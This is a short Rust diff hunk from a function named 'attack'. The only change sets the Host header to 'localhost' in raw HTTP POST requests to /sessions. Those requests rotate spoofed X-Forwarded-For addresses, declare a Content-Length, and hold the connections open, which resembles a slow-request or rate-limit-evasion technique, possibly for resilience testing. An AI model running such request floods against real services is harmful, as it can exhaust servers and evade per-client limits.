@@ -16,7 +16,7 @@ pub async fn attack(target: &Target, options: &Options) -> Outcome<Verdict> {
             _ => "Content-Length: 100",
         };
         let head = format!(
-            "POST /sessions HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: 198.51.100.{}\r\n{length}\r\n\r\n",
+            "POST /sessions HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: 198.51.100.{}\r\n{length}\r\n\r\n",
             number % 10
         );
         held.push(raw::send(target.address, head).await?);
